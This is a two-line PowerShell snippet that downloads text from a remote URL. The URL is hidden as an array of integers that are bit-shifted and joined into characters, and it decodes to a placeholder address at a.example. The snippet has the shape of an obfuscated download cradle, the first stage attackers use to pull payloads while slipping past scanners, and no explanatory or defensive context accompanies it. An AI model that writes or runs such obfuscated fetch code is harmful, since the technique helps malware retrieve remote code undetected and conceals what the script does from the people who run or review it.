$wc = New-Object System.Net.WebClient
$wc.DownloadString((-join (416,464,464,448,232,188,188,388,184,404,480,388,436,448,432,404,188,448,188,480,184,464,480,464 | %{[char](($_ -shr 2) -band 0xff)})))
